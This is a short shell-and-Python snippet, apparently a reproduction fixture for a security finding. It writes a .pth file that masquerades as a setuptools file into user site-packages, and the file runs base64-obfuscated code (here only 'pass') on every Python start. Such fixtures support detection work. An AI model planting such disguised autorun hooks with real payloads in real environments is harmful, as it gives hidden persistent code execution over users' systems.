# incident: packages that start themselves (2024-26): an install leaves a .pth file, by which every Python runs their code
# finding: python-path-file-hides-code
# needs: python3
python3 - <<'PY'
import os, site
target = os.path.join(os.path.expanduser("~"), ".local/lib/python3.11/site-packages")
os.makedirs(target, exist_ok=True)
with open(os.path.join(target, "distutils-precedence-2.pth"), "w") as f:
    f.write("import os,base64;exec(base64.b64decode('cGFzcw=='))\n")
PY
